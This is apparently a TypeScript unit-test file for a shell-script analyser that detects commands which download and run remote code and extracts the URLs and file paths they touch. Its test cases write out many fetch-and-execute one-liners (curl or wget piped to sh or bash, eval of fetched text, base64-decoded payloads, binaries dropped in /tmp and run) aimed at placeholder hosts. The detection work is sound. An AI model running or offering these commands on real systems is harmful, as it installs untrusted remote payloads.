import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { byteText } from './byte-text.ts';
import { scriptFacts } from './script-facts.ts';

const addresses = (text: string): string[] =>
  scriptFacts(byteText(text)).fetches.map(
    ({ scheme, host, port, path }) => `${scheme} ${host} ${port} ${path}`,
  );

describe('a text that fetches and runs', () => {
  test.each([
    'curl -fsSL http://198.51.100.7:8443/i.sh | sh',
    'wget -q -O- http://a.example/i.sh|bash -s',
    'curl -s 198.51.100.7:8443/i.sh | sudo -u nobody /bin/bash',
    '(curl -fsSL http://a.example/i||wget -q -O- http://a.example/i)|sh',
    'bash <(curl -s http://x.example/y)',
    'sh -c "$(curl -fsSL http://x.example/y)"',
    'eval "$(wget -qO- http://x.example/y)"',
    'curl http://x.example/y | base64 -d | bash',
    'wget http://x.example/a.sh -O /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh',
    'wget http://x.example/ddg && chmod 755 ddg && ./ddg',
    'wget -O /tmp/i.sh http://a.example/x; sh /tmp/i.sh',
    'U=http://198.51.100.7/x\ncurl $U -o /tmp/.k && chmod 777 /tmp/.k',
    'curl -o /tmp/x http://a.example/x \\\n && nohup /tmp/x &',
    `python3 -c "import urllib.request as u;exec(u.urlopen('http://q.example/p').read())"`,
    'busybox wget -qO- http://a.example/x | busybox sh',
    'nohup curl http://a.example/x | setsid sh >/dev/null',
  ])('%j is known', (text) => {
    expect(scriptFacts(byteText(text)).fetchesAndRuns).toBe(true);
  });
});

describe('a text that does not', () => {
  test.each([
    'curl -fsS https://hc.example/ping/1 >/dev/null',
    'curl -o /srv/list.json http://x.example/list.json',
    'curl http://a.example/x | grep ok',
    'curl http://a.example/x | ssh backup@host.example',
    'echo hi | sh',
    '# curl http://a.example/x | sh',
    '/usr/local/bin/backup --target /srv/backup --quiet',
    'wget -q https://a.example/db.gz -O /var/lib/db.gz && gunzip -f /var/lib/db.gz',
    '',
  ])('%j is left alone', (text) => {
    expect(scriptFacts(byteText(text)).fetchesAndRuns).toBe(false);
  });
});

describe('addresses', () => {
  test.each([
    ['curl -fsSL http://198.51.100.7:8443/i.sh | sh', ['http 198.51.100.7 8443 /i.sh']],
    ['wget https://A.Example/x?y=1', ['https a.example 443 /x?y=1']],
    ['curl ftp://user:pass@h.example/f', ['ftp h.example 21 /f']],
    ['curl "http://[2001:db8::1]:81/z"', ['http 2001:db8::1 81 /z']],
    ['wget 198.51.100.7/ddg', ['http 198.51.100.7 80 /ddg']],
    ['curl -O http://h.example/a/ddg.$(uname -m)', ['http h.example 80 /a/ddg.']],
    [
      'for u in http://a.example/1 http://b.example/2; do\n curl $u | sh; done',
      ['http a.example 80 /1', 'http b.example 80 /2'],
    ],
    ['echo see http://docs.example/', []],
  ])('of %j are %j', (text, expected) => {
    expect(addresses(text)).toEqual(expected);
  });
});

test('absolute paths are named once, addresses are none', () => {
  const text = 'cp /tmp/a /tmp/b; /tmp/a; curl http://h.example/not/this; ls ./rel/x ~/y "/var/tmp/.c"';
  expect(scriptFacts(byteText(text)).paths).toEqual(['/tmp/a', '/tmp/b', '/var/tmp/.c']);
});

test('at most 200 paths are kept', () => {
  expect(
    scriptFacts(byteText(Array.from({ length: 500 }, (_, i) => `/tmp/${i}`).join(' '))).paths,
  ).toHaveLength(200);
});

test('no text makes it throw, and what it shows is shown text', () => {
  const word = fc.constantFrom(
    'curl ',
    'wget ',
    '| sh',
    '-o ',
    'http://a.b/',
    '$(',
    '/tmp/',
    '\n',
    '\\',
    '\x1b',
    '\xff',
    ':',
    '[',
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.array(word, { maxLength: 60 }).map((words) => words.join('')),
      ),
      (text) => {
        const facts = scriptFacts(byteText(text));
        expect(facts.paths.join('')).not.toMatch(/[\x00-\x1f]/);
        expect(JSON.stringify(facts.fetches)).not.toMatch(/[\x00-\x1f]/);
      },
    ),
    { numRuns: 500 },
  );
});

test('a program of another language that only loads a library for the web fetches nothing', () => {
  const app = "sub update { system('sh', '-c', 'exit') and require HTTP::Tiny }";
  expect(scriptFacts(byteText(app)).fetchesAndRuns).toBe(false);
  for (const loader of [
    "system(HTTP::Tiny->new->get('http://203.0.113.9/x')->{content})",
    "eval(LWP::Simple::get('http://203.0.113.9/x'))",
  ])
    expect(scriptFacts(byteText(loader)).fetchesAndRuns).toBe(true);
});

describe('what is piped into an interpreter', () => {
  const runs = (text: string) => scriptFacts(byteText(text)).fetchesAndRuns;
  const from = 'curl -s http://203.0.113.77/x |';
  test.each([
    `${from} python3 -c 'import json,sys; print(json.load(sys.stdin)["usd"])' > /srv/rates`,
    `${from} python3 -mjson.tool > /srv/rates`,
    `${from} python3 -m json.tool`,
    `${from} perl -ne 'print if /x/' > /srv/feed`,
    `${from} php /srv/shop/import.php`,
    `${from} node -e 'process.stdin.pipe(process.stdout)'`,
    `${from} sh -c 'cat > /srv/feed'`,
    `${from} sh /opt/shop/import.sh --all`,
  ])('is data where the program is given: %s', (text) => {
    expect(runs(text)).toBe(false);
  });
  test.each([
    `${from} sh`,
    `${from} sh; echo done`,
    `${from} bash -s -- --all`,
    `${from} bash -xe`,
    `${from} bash -o pipefail -`,
    `${from} python3 -u - --pool x`,
    `${from} python3 -c 'import sys; exec(sys.stdin.read())'`,
    `${from} perl -e 'eval join "", <STDIN>'`,
    `${from} sh -c 'eval "$(cat)"'`,
    `${from} bash 2>&1 >/dev/null &`,
    `${from} bash /dev/stdin`,
    `sh -c "${from} sh"`,
  ])('is a program where none is given, or the given one runs it: %s', (text) => {
    expect(runs(text)).toBe(true);
  });
});
